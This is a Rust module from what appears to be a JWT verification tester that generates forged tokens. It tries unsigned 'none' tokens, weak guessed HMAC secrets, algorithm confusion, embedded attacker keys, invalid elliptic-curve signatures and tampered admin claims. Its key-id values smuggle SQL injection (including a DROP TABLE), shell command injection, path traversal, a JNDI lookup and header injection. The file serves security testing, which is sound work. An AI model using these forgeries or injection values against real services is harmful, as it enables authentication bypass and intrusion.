//! What can be forged without any right.

use anyhow::Result;
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE};
use serde_json::{Value, json};

use super::{Forgery, Loot};
use crate::forger::{Key, Live, hmac_with, input, spellings_of, with};

/// Every group with its forgeries.
pub(super) fn all(loot: &Loot) -> Result<Vec<(&'static str, Vec<Forgery>)>> {
    Ok(vec![
        ("no signature needed", none(&loot.live)),
        ("a public key as the HMAC secret", public_secrets(loot)),
        ("a guessed HMAC secret", guessed_secrets(&loot.live)),
        ("key ids that are paths, SQL and commands", key_ids(&loot.live)),
        ("a key of the forger's own", own_keys(loot)?),
        ("signatures that are none", signatures(loot)),
        ("signatures of every key", psychic(&loot.live)),
        ("changed claims", claims(&loot.live)),
        ("another algorithm's name", algorithms(&loot.live)),
        ("members twice and extensions", members(&loot.live)),
        ("other spellings of a good token", spellings(&loot.live)),
        ("sizes and shapes", shapes(&loot.live)),
    ])
}

fn none(live: &Live) -> Vec<Forgery> {
    let mut forgeries = Vec::new();
    for alg in ["none", "None", "NONE", "nOnE", "none ", " none", "none\u{0}", "", "null", "no\u{200b}ne", "n\u{f6}ne"]
    {
        let input = live.under(&json!({"alg": alg}));
        let what = |how: &str| format!("alg {alg:?}, {how}");
        forgeries.push(Forgery::new(what("empty signature"), with(&input, &[])));
        forgeries.push(Forgery::new(what("no third part"), input.clone()));
        forgeries.push(Forgery::new(what("the old signature"), with(&input, &live.signature)));
    }
    for alg in [json!(0), json!(true), json!(["none"]), json!({"alg": "none"})] {
        forgeries.push(Forgery::new(format!("alg {alg}"), with(&live.under(&json!({"alg": alg})), &[])));
    }
    let absent = live.under(&json!({"alg": null}));
    forgeries.push(Forgery::new("alg absent", with(&absent, &[])));
    forgeries.push(Forgery::new(
        "alg null",
        with(&input(r#"{"alg":null,"typ":"at+jwt"}"#, &live.claims_with(&json!({}))), &[]),
    ));
    forgeries
}

fn public_secrets(loot: &Loot) -> Vec<Forgery> {
    let mut secrets: Vec<Vec<u8>> = loot.keys.iter().flat_map(spellings_of).collect();
    secrets.push(loot.published.clone());
    let mut forgeries = Vec::new();
    for (number, secret) in secrets.iter().enumerate() {
        for alg in ["HS256", "HS384", "HS512"] {
            let input = loot.live.under(&json!({"alg": alg}));
            let token = with(&input, &hmac_with(alg, secret, &input));
            forgeries.push(Forgery::new(format!("{alg}, spelling {number} of the published keys"), token));
        }
    }
    forgeries
}

const SECRETS: [&str; 16] = [
    "",
    "secret",
    "your-secret-key",
    "your-256-bit-secret",
    "changeme",
    "change-me",
    "password",
    "jwt",
    "jwt_secret",
    "key",
    "0",
    "null",
    "undefined",
    "test",
    "admin",
    "supersecretkey",
];

fn guessed_secrets(live: &Live) -> Vec<Forgery> {
    let issuer = live.claims.get("iss").and_then(Value::as_str).unwrap_or_default();
    let mut forgeries = Vec::new();
    for secret in SECRETS.into_iter().chain([issuer]) {
        let input = live.under(&json!({"alg": "HS256"}));
        let signature = hmac_with("HS256", secret.as_bytes(), &input);
        forgeries.push(Forgery::new(format!("secret {secret:?}"), with(&input, &signature)));
    }
    forgeries
}

/// The secret under which the live token itself carries an HMAC, where a list has it: its claims are then anybody's to choose.
pub(super) fn guessed(live: &Live) -> Option<&'static str> {
    let is_it = |secret: &&str, name: &str| hmac_with(name, secret.as_bytes(), live.input()) == live.signature;
    SECRETS.into_iter().find(|secret| ["HS256", "HS384", "HS512"].into_iter().any(|name| is_it(secret, name)))
}

fn input_of(live: &Live, header: &Value, claims: &Value) -> String {
    input(&live.header_with(header), &live.claims_with(claims))
}

fn key_ids(live: &Live) -> Vec<Forgery> {
    let long = "k".repeat(3_000);
    let mut forgeries = Vec::new();
    for (kid, secret) in [
        ("../../../../../../../dev/null", ""),
        ("/dev/null", ""),
        ("..\\..\\..\\nul", ""),
        ("/proc/sys/kernel/randomize_va_space", "2\n"),
        ("file:///dev/null", ""),
        ("x' UNION SELECT 'secret' -- ", "secret"),
        ("x\" UNION SELECT \"secret\" -- ", "secret"),
        ("x'; DROP TABLE signing_keys; --", ""),
        ("' OR '1'='1", ""),
        ("|sleep 10", ""),
        ("$(sleep 10)", ""),
        ("`sleep 10`", ""),
        ("${jndi:ldap://127.0.0.1:1/x}", ""),
        ("{{7*7}}", ""),
        ("http://127.0.0.1:1/key", ""),
        ("key\r\nX-Injected: 1", ""),
        ("key\u{0}", ""),
        ("", ""),
        (long.as_str(), ""),
    ] {
        let shown = kid.escape_debug().to_string().chars().take(40).collect::<String>();
        let input = live.under(&json!({"alg": "HS256", "kid": kid}));
        forgeries.push(Forgery::new(
            format!("HMAC, kid {shown}"),
            with(&input, &hmac_with("HS256", secret.as_bytes(), &input)),
        ));
        let input = live.under(&json!({"kid": kid}));
        forgeries.push(Forgery::new(format!("kid {shown}"), with(&input, &live.signature)));
    }
    for kid in [json!(0), json!(true), json!(["a"]), json!({"kid": "a"})] {
        forgeries.push(Forgery::new(format!("kid {kid}"), with(&live.under(&json!({"kid": kid})), &live.signature)));
    }
    forgeries
}

fn own_keys(loot: &Loot) -> Result<Vec<Forgery>> {
    let (live, own) = (&loot.live, &loot.own);
    let kid = live.header.get("kid").and_then(Value::as_str).unwrap_or("own");
    let signed = |header: Value| {
        let input = live.under(&header);
        let signature = own.sign(&input);
        with(&input, &signature)
    };
    let certificate = STANDARD.encode(own.to_pem()?);
    let private = Key::generate()?.jwk(kid);
    Ok(vec![
        Forgery::new("under the server's key id", signed(json!({"alg": "EdDSA"}))),
        Forgery::new("no key id", signed(json!({"alg": "EdDSA", "kid": null}))),
        Forgery::new("jwk in the header", signed(json!({"alg": "EdDSA", "jwk": own.jwk(kid)}))),
        Forgery::new(
            "jwk in the header, no key id",
            signed(json!({"alg": "EdDSA", "kid": null, "jwk": own.jwk("own")})),
        ),
        Forgery::new(
            "jwk in the header under an unknown key id",
            signed(json!({"alg": "EdDSA", "kid": "own", "jwk": own.jwk("own")})),
        ),
        Forgery::new("another key's jwk", signed(json!({"alg": "EdDSA", "jwk": private}))),
        Forgery::new("a key set in the header", signed(json!({"alg": "EdDSA", "jwks": {"keys": [own.jwk(kid)]}}))),
        Forgery::new("x5c", signed(json!({"alg": "EdDSA", "x5c": [certificate]}))),
        Forgery::new("x5t", signed(json!({"alg": "EdDSA", "x5t": "AAAAAAAAAAAAAAAAAAAAAAAAAAA"}))),
        Forgery::new("a symmetric jwk", {
            let jwk = json!({"kty": "oct", "k": "c2VjcmV0", "alg": "HS256"});
            let input = live.under(&json!({"alg": "HS256", "jwk": jwk}));
            with(&input, &hmac_with("HS256", b"secret", &input))
        }),
        Forgery::new("iss elsewhere", {
            let input = input_of(live, &json!({"alg": "EdDSA"}), &json!({"iss": "https://evil.example"}));
            with(&input, &own.sign(&input))
        }),
    ])
}

fn signatures(loot: &Loot) -> Vec<Forgery> {
    let live = &loot.live;
    let reversed: Vec<u8> = live.signature.iter().rev().copied().collect();
    let mut forgeries = vec![
        Forgery::new("empty", with(live.input(), &[])),
        Forgery::new("no third part", live.input().to_owned()),
        Forgery::new("reversed", with(live.input(), &reversed)),
        Forgery::new("twice", with(live.input(), &[live.signature.clone(), live.signature.clone()].concat())),
        Forgery::new("of another token of the same person", with(live.input(), &loot.other.signature)),
        Forgery::new("of somebody else's token", with(live.input(), &loot.stranger.signature)),
        Forgery::new("the hash of nothing", with(live.input(), &hmac_with("HS256", b"", ""))),
    ];
    for at in [0, live.signature.len() / 2, live.signature.len().saturating_sub(1)] {
        for bit in [1, 0x80] {
            let mut flipped = live.signature.clone();
            if let Some(byte) = flipped.get_mut(at) {
                *byte ^= bit;
            }
            forgeries.push(Forgery::new(format!("byte {at} with bit {bit:#x} flipped"), with(live.input(), &flipped)));
        }
    }
    for length in [1, 31, 32, 63, 65, 71, 96, 256] {
        let cut: Vec<u8> = live.signature.iter().copied().chain(std::iter::repeat(0)).take(length).collect();
        forgeries.push(Forgery::new(format!("cut or padded to {length} bytes"), with(live.input(), &cut)));
    }
    forgeries
}

/// The order of P-256 and of Ed25519's group, for signatures that a careless check finds good for every message.
const P256_ORDER: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xbc, 0xe6, 0xfa, 0xad, 0xa7,
    0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];
const ED25519_ORDER: [u8; 32] = [
    0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde, 0x14, 0, 0, 0, 0, 0, 0,
    0, 0, 0, 0, 0, 0, 0, 0, 0, 0x10,
];

fn psychic(live: &Live) -> Vec<Forgery> {
    let zero = [0; 32];
    let one_big = {
        let mut one = zero;
        if let Some(last) = one.last_mut() {
            *last = 1;
        }
        one
    };
    let one_little = {
        let mut one = zero;
        if let Some(first) = one.first_mut() {
            *first = 1;
        }
        one
    };
    let mut forgeries = Vec::new();
    for alg in ["ES256", "EdDSA", "Ed25519"] {
        let input = live.under(&json!({"alg": alg}));
        for (what, r, s) in [
            ("r = s = 0", zero, zero),
            ("r = 0, s = 1", zero, one_big),
            ("r = 1, s = 0", one_big, zero),
            ("r = s = n", P256_ORDER, P256_ORDER),
            ("r = n, s = 1", P256_ORDER, one_big),
            ("the neutral point, S = 0", one_little, zero),
            ("a point of small order, S = 0", zero, zero),
            ("the neutral point, S = L", one_little, ED25519_ORDER),
            ("all ones", [0xff; 32], [0xff; 32]),
        ] {
            forgeries.push(Forgery::new(format!("{alg}: {what}"), with(&input, &[r, s].concat())));
        }
        let der = [0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00];
        forgeries.push(Forgery::new(format!("{alg}: zeros in DER"), with(&input, &der)));
    }
    // The same signature, S larger by the order of the group.
    let (r, s) = live.signature.split_at_checked(32).unwrap_or_default();
    let mut carry = 0;
    let sum = s.iter().zip(ED25519_ORDER).map(|(a, b)| {
        let both = u16::from(*a) + u16::from(b) + carry;
        carry = both >> 8;
        both.to_be_bytes()[1]
    });
    let s: Vec<u8> = sum.collect();
    forgeries.push(Forgery::new("S plus the order of the group", with(live.input(), &[r, &s].concat())));
    forgeries
}

fn claims(live: &Live) -> Vec<Forgery> {
    [
        json!({"sub": "usr_7zzzzzzzzzzzzzzzzzzzzzzzzz"}),
        json!({"roles": ["admin"]}),
        json!({"role": "admin"}),
        json!({"permissions": ["*"]}),
        json!({"exp": 9_999_999_999_i64}),
        json!({"exp": null}),
        json!({"exp": "9999999999"}),
        json!({"nbf": 9_999_999_999_i64}),
        json!({"iat": 0, "exp": 1}),
        json!({"ver": 999}),
        json!({"sid": "ses_7zzzzzzzzzzzzzzzzzzzzzzzzz"}),
        json!({"jti": "tok_7zzzzzzzzzzzzzzzzzzzzzzzzz"}),
        json!({"aud": "https://evil.example"}),
        json!({"iss": "https://evil.example"}),
        json!({"acr": "9", "amr": ["hwk"]}),
        json!({"auth_time": 9_999_999_999_i64}),
    ]
    .into_iter()
    .map(|change| Forgery::new(change.to_string(), with(&input_of(live, &json!({}), &change), &live.signature)))
    .collect()
}

fn algorithms(live: &Live) -> Vec<Forgery> {
    let names = [
        "RS256",
        "RS384",
        "RS512",
        "PS256",
        "ES256",
        "ES256K",
        "ES384",
        "ES512",
        "HS256",
        "EdDSA ",
        "eddsa",
        "EDDSA",
        "Ed25519",
        "Ed448",
        "dir",
        "A256GCM",
        "RSA-OAEP",
        "PBES2-HS256+A128KW",
        "ML-DSA-44",
    ];
    let own = live.header.get("alg").and_then(Value::as_str).unwrap_or_default().to_owned();
    let others = names.into_iter().filter(|name| *name != own);
    others.map(|alg| Forgery::new(alg, with(&live.under(&json!({"alg": alg})), &live.signature))).collect()
}

fn members(live: &Live) -> Vec<Forgery> {
    let (header, claims) = (live.header_with(&json!({})), live.claims_with(&json!({})));
    let rest = |text: &str| text.strip_prefix('{').unwrap_or_default().to_owned();
    let twice = |first: &str, text: &str| format!("{{{first},{}", rest(text));
    let mut forgeries = vec![
        Forgery::new(
            "alg twice, none first",
            with(&input(&twice(r#""alg":"none""#, &header), &claims), &live.signature),
        ),
        Forgery::new("alg twice, unsigned", with(&input(&twice(r#""alg":"none""#, &header), &claims), &[])),
        Forgery::new("kid twice", with(&input(&twice(r#""kid":"x""#, &header), &claims), &live.signature)),
        Forgery::new("sub twice", with(&input(&header, &twice(r#""sub":"usr_x""#, &claims)), &live.signature)),
        Forgery::new("exp twice", with(&input(&header, &twice(r#""exp":9999999999"#, &claims)), &live.signature)),
    ];
    for extension in [
        json!({"crit": ["exp"]}),
        json!({"crit": []}),
        json!({"crit": "b64"}),
        json!({"crit": ["b64"], "b64": false}),
        json!({"b64": false}),
        json!({"zip": "DEF"}),
        json!({"cty": "JWT"}),
        json!({"typ": "JWT"}),
        json!({"typ": "at+JWT "}),
        json!({"typ": null}),
        json!({"enc": "A256GCM"}),
        json!({"p2c": 2_147_483_647, "p2s": "AAAA"}),
        json!({"epk": {"kty": "EC", "crv": "P-256"}}),
    ] {
        let token = with(&live.under(&extension), &live.signature);
        forgeries.push(Forgery::new(extension.to_string(), token));
    }
    forgeries
}

fn spellings(live: &Live) -> Vec<Forgery> {
    let (input, signature) = live.text.rsplit_once('.').unwrap_or_default();
    let (header, claims) = input.split_once('.').unwrap_or_default();
    let padded = URL_SAFE.encode(&live.signature);
    let standard = STANDARD.encode(&live.signature);
    let mut forgeries = vec![
        Forgery::new("a padded signature", format!("{input}.{padded}")),
        Forgery::new("a padded header", format!("{header}=.{claims}.{signature}")),
        Forgery::new("a dot more", format!("{}.", live.text)),
        Forgery::new("a dot before", format!(".{}", live.text)),
        Forgery::new("four parts", format!("{}.AAAA", live.text)),
        Forgery::new("five parts", format!("{}.AAAA.AAAA", live.text)),
        Forgery::new("two dots", live.text.replacen('.', "..", 1)),
        Forgery::new("quotes", format!("\"{}\"", live.text)),
        Forgery::new("percent signs", live.text.replacen('.', "%2E", 1)),
        Forgery::new("a space in the middle", live.text.replacen('.', ". ", 1)),
        Forgery::new("a tab at its end", format!("{}\t.", live.text)),
        Forgery::new("two tokens", format!("{},{}", live.text, live.text)),
        Forgery::new("a parameter", format!("token={}", live.text)),
        Forgery::new("upper case", live.text.to_ascii_uppercase()),
        Forgery::new("another letter in the signature's last place", spare_bits(&live.text)),
    ];
    if standard.trim_end_matches('=') != signature {
        forgeries.push(Forgery::new("the other alphabet", format!("{input}.{}", standard.trim_end_matches('='))));
    }
    forgeries
}

/// The text with its last letter's unused bits set: lenient decoders read the same bytes.
fn spare_bits(text: &str) -> String {
    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let last = text.bytes().last().and_then(|last| LETTERS.iter().position(|letter| *letter == last)).unwrap_or(0);
    let next = LETTERS.get(last ^ 1).copied().map_or('A', char::from);
    let kept = text.get(..text.len().saturating_sub(1)).unwrap_or_default();
    format!("{kept}{next}")
}

fn shapes(live: &Live) -> Vec<Forgery> {
    let json = json!({"payload": live.input().split('.').nth(1), "signatures": []}).to_string();
    let deep = format!("{}{}", "[".repeat(2_000), "]".repeat(2_000));
    let wide: Vec<String> = (0..500).map(|n| format!("\"m{n}\":0")).collect();
    let padding =
        |bytes: usize| with(&input_of(live, &json!({}), &json!({"padding": "x".repeat(bytes)})), &live.signature);
    let mut forgeries = vec![
        Forgery::new(
            "a token in a token",
            with(&input(&live.header_with(&json!({"cty": "JWT"})), &live.text), &live.signature),
        ),
        Forgery::new("JSON for the compact form", json),
        Forgery::new("a header 2,000 deep", with(&input(&deep, "{}"), &live.signature)),
        Forgery::new("500 members", with(&input(&format!("{{{}}}", wide.join(",")), "{}"), &live.signature)),
        Forgery::new("a header that is a list", with(&input("[]", "{}"), &live.signature)),
        Forgery::new("claims that are a text", with(&input(&live.header_with(&json!({})), "\"x\""), &live.signature)),
        Forgery::new("nothing at all", "..".to_owned()),
        Forgery::new("one letter", "x".to_owned()),
        Forgery::new("letters that are none of base64", "\u{e4}.\u{f6}.\u{fc}".to_owned()),
        Forgery::new(
            "a byte-order mark",
            with(&input(&format!("\u{feff}{}", live.header_with(&json!({}))), "{}"), &[]),
        ),
    ];
    for bytes in [6_500, 9_000, 60_000, 200_000] {
        forgeries.push(Forgery::new(format!("{bytes} bytes of padding"), padding(bytes)));
    }
    forgeries
}
